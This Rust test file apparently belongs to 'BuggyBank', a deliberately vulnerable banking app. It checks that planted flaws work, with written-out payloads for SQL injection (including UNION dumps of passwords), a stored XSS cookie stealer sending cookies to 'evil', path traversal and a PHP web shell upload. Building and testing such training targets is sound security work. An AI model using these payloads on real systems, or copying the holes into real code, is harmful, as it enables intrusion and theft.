mod common;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use bank_server::transfer::transfer;
use common::{body_text, encode_form, spawn_app};

async fn sentinel_count(app: &common::TestApp) -> Option<i64> {
    app.state
        .db
        .raw_query("SELECT COUNT(*) FROM admin_audit WHERE action = 'sentinel'", &[])
        .await[0][0]
        .as_i64()
}

#[tokio::test]
async fn test_bio_runs_when_report_is_viewed() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let response = app
        .post_form(
            "/profile/update-bio",
            &[("bio", "INSERT INTO admin_audit (action, details) VALUES (''sentinel'', ''2nd order'')")],
            Some("john"),
        )
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(sentinel_count(&app).await, Some(0));

    // No session needed for the report, and every view re-runs the bio
    for expected in 1..=2 {
        let response = app.get("/admin/reports", None).await;
        assert_eq!(response.status(), StatusCode::OK);
        let page = body_text(response).await;
        assert!(page.contains("INSERT INTO admin_audit"));
        assert_eq!(sentinel_count(&app).await, Some(expected));
    }
}

#[tokio::test]
async fn test_failing_bio_does_not_stop_report() {
    let app = spawn_app().await;
    app.login("alice", "password123", "alice").await;
    app.post_form("/profile/update-bio", &[("bio", "DROP TABLE nope")], Some("alice"))
        .await;

    let page = body_text(app.get("/admin/reports", None).await).await;
    for name in ["admin", "john", "alice", "bob"] {
        assert!(page.contains(name));
    }
    assert!(page.contains("Test user"));
}

#[tokio::test]
async fn test_legacy_profile_update_is_injectable() {
    let app = spawn_app().await;
    app.login("bob", "password123", "bob").await;

    // Closing the name literal early lets the form rewrite the balance too
    let page = body_text(
        app.post_form(
            "/profile/edit-legacy",
            &[
                ("name", "bob', balance = 99999 WHERE username = 'bob' --"),
                ("email", "ignored"),
            ],
            Some("bob"),
        )
        .await,
    )
    .await;
    assert!(page.contains("Profile updated!"));
    assert_eq!(app.balance("bob").await, 99999.0);
}

#[tokio::test]
async fn test_transfer_message_reaches_recipient_unescaped() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;
    app.login("alice", "password123", "alice").await;

    let page = body_text(
        app.post_form(
            "/transfer",
            &[
                ("to_username", "alice"),
                ("amount", "25"),
                ("message", "<script>document.location='//evil/?'+document.cookie</script>"),
            ],
            Some("john"),
        )
        .await,
    )
    .await;
    assert!(page.contains("Transfer successful!"));

    let history = body_text(app.get("/transaction-history", Some("alice")).await).await;
    assert!(history.contains("<script>document.location='//evil/?'+document.cookie</script>"));
}

#[tokio::test]
async fn test_overdraft_and_unknown_recipient() {
    let app = spawn_app().await;
    app.login("bob", "password123", "bob").await;

    app.post_form(
        "/transfer",
        &[("to_username", "admin"), ("amount", "5000"), ("message", "")],
        Some("bob"),
    )
    .await;
    assert_eq!(app.balance("bob").await, -4200.0);
    assert_eq!(app.balance("admin").await, 15000.0);

    let page = body_text(
        app.post_form(
            "/transfer",
            &[("to_username", "nobody"), ("amount", "1"), ("message", "")],
            Some("bob"),
        )
        .await,
    )
    .await;
    assert!(page.contains("Recipient not found"));
}

#[tokio::test]
async fn test_unparseable_amount_is_generic_error() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let response = app
        .post_form(
            "/transfer",
            &[("to_username", "alice"), ("amount", "lots"), ("message", "")],
            Some("john"),
        )
        .await;
    assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
    let page = body_text(response).await;
    assert!(page.contains("Something went wrong."));
    assert!(!page.contains("float"));
}

#[tokio::test]
async fn test_history_trusts_user_id_parameter() {
    let app = spawn_app().await;
    let alice = app.user_id("alice").await;
    let bob = app.user_id("bob").await;
    transfer(&app.state.db, &alice.into(), &bob.into(), 12.5, "alice private note").await;

    app.login("john", "password123", "john").await;
    let page = body_text(
        app.get(&format!("/transaction-history?user_id={}", alice), Some("john"))
            .await,
    )
    .await;
    assert!(page.contains("alice private note"));
}

#[tokio::test]
async fn test_json_transfer_splices_recipient() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let response = app
        .post_json(
            "/funds/transfer",
            r#"{"to_user_id": "0 OR username = 'alice'", "amount": 100, "message": "hi"}"#,
            Some("john"),
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(body_text(response).await, r#"{"success":true}"#);
    assert_eq!(app.balance("john").await, 1400.0);
    assert_eq!(app.balance("alice").await, 2100.0);
}

#[tokio::test]
async fn test_json_endpoints_answer_401_without_session() {
    let app = spawn_app().await;

    let response = app.post_json("/funds/transfer", "not json", None).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(body_text(response).await, r#"{"error":"Unauthorized"}"#);

    let response = app.get("/api/transactions", None).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn test_hidden_endpoints_need_no_session() {
    let app = spawn_app().await;

    for uri in [
        "/admin/reports",
        "/admin/user-audit",
        "/support/messages",
        "/api/v1/transactions/export",
        "/api/v1/users/list",
    ] {
        let response = app.get(uri, None).await;
        assert_eq!(response.status(), StatusCode::OK, "{}", uri);
    }

    let users: serde_json::Value =
        serde_json::from_str(&body_text(app.get("/api/v1/users/list", None).await).await).unwrap();
    assert_eq!(users[0]["username"], "admin");
    assert_eq!(users[0]["email"], "admin@buggybank.com");
    assert_eq!(users[0]["balance"], 10000.0);
}

#[tokio::test]
async fn test_support_message_rendered_raw() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let page = body_text(
        app.post_form(
            "/support/messages",
            &[("message", "<img src=x onerror=alert(1)>")],
            Some("john"),
        )
        .await,
    )
    .await;
    assert!(page.contains("Message sent to support!"));

    let listing = body_text(app.get("/support/messages", None).await).await;
    assert!(listing.contains("<img src=x onerror=alert(1)>"));
}

#[tokio::test]
async fn test_help_traversal_never_errors() {
    let app = spawn_app().await;
    std::fs::write(app.root.path().join("secret.txt"), "outside help dir").unwrap();

    let page = body_text(app.get("/help", None).await).await;
    assert!(page.contains("Welcome to BuggyBank help."));

    let page = body_text(app.get("/help?topic=../secret", None).await).await;
    assert!(page.contains("outside help dir"));

    for uri in ["/help?topic=../../../../etc/passwd", "/help?topic=%00", "/help?topic=missing"] {
        let response = app.get(uri, None).await;
        assert_eq!(response.status(), StatusCode::OK, "{}", uri);
    }
    let page = body_text(app.get("/help?topic=missing", None).await).await;
    assert!(page.contains("Help topic not found."));
}

fn upload_request(filename: &str, contents: &str, token: &str) -> Request<Body> {
    let boundary = "XBOUNDARYX";
    let body = format!(
        "--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{f}\"\r\nContent-Type: application/octet-stream\r\n\r\n{c}\r\n--{b}--\r\n",
        b = boundary,
        f = filename,
        c = contents
    );
    Request::builder()
        .method("POST")
        .uri("/upload-document")
        .header(header::COOKIE, format!("session={}", token))
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={}", boundary),
        )
        .body(Body::from(body))
        .unwrap()
}

#[tokio::test]
async fn test_upload_keeps_traversal_filename() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let request = upload_request("../shell.php", "<?php system($_GET['c']); ?>", "john");
    let page = body_text(app.send(request).await).await;
    assert!(page.contains("File uploaded successfully!"));

    let written = app.root.path().join("shell.php");
    assert_eq!(
        std::fs::read_to_string(written).unwrap(),
        "<?php system($_GET['c']); ?>"
    );
}

#[tokio::test]
async fn test_documents_download_without_session() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let page = body_text(app.send(upload_request("statement.txt", "john's salary", "john")).await).await;
    assert!(page.contains("Document id: 1"));

    let response = app.get("/files/download/1", None).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers()[header::CONTENT_DISPOSITION],
        "attachment; filename=\"statement.txt\""
    );
    assert_eq!(body_text(response).await, "john's salary");

    let response = app.get("/files/download/2", None).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert_eq!(body_text(response).await, r#"{"error":"File not found"}"#);
}

#[tokio::test]
async fn test_union_payload_lists_credentials_in_history() {
    let app = spawn_app().await;
    app.login("john", "password123", "john").await;

    let uri = format!(
        "/transaction-history?{}",
        encode_form(&[(
            "user_id",
            "0 UNION SELECT id, username, password, balance, email, created_at FROM users --",
        )])
    );
    let response = app.get(&uri, Some("john")).await;
    assert_eq!(response.status(), StatusCode::OK);

    let page = body_text(response).await;
    assert!(page.contains("<td>admin</td><td>admin123</td><td>10000.0</td>"));
    assert!(page.contains("<td>bob</td><td>password123</td>"));
}

#[tokio::test]
async fn test_legacy_user_api_is_open() {
    let app = spawn_app().await;

    let profile: serde_json::Value =
        serde_json::from_str(&body_text(app.get("/users/profile/2", None).await).await).unwrap();
    assert_eq!(profile["user"]["username"], "john");
    assert_eq!(profile["user"]["password"], "password123");

    let balance: serde_json::Value =
        serde_json::from_str(&body_text(app.get("/users/balance/3", None).await).await).unwrap();
    assert_eq!(balance["username"], "alice");
    assert_eq!(balance["balance"], 2000.0);

    let response = app.get("/users/profile/999", None).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);

    // The path id is spliced into the lookup as well
    let response = app.get("/users/balance/0%20OR%20username%20%3D%20'bob'", None).await;
    let balance: serde_json::Value = serde_json::from_str(&body_text(response).await).unwrap();
    assert_eq!(balance["username"], "bob");
}

#[tokio::test]
async fn test_user_search_is_injectable() {
    let app = spawn_app().await;

    let found: serde_json::Value =
        serde_json::from_str(&body_text(app.get("/users/search?query=jo", None).await).await).unwrap();
    assert_eq!(found["users"].as_array().unwrap().len(), 1);
    assert_eq!(found["users"][0]["email"], "john@example.com");

    let uri = format!(
        "/users/search?{}",
        encode_form(&[("query", "zzz' UNION SELECT id, username, password FROM users --")])
    );
    let leaked: serde_json::Value = serde_json::from_str(&body_text(app.get(&uri, None).await).await).unwrap();
    let users = leaked["users"].as_array().unwrap();
    assert_eq!(users.len(), 4);
    assert!(users.iter().any(|u| u["username"] == "admin" && u["email"] == "admin123"));

    // A broken query looks like an empty result
    let broken: serde_json::Value =
        serde_json::from_str(&body_text(app.get("/users/search?query=%27", None).await).await).unwrap();
    assert_eq!(broken, serde_json::json!({ "users": [] }));
}

#[tokio::test]
async fn test_search_page_has_dom_sink() {
    let app = spawn_app().await;
    let page = body_text(app.get("/search?q=%3Csvg%20onload%3Dalert(1)%3E", None).await).await;
    assert!(page.contains("&lt;svg onload=alert(1)&gt;"));
    assert!(page.contains("innerHTML"));
}

#[tokio::test]
async fn test_unknown_path_is_404_page() {
    let app = spawn_app().await;
    let response = app.get("/no/such/page", None).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert!(body_text(response).await.contains("Page Not Found"));
}
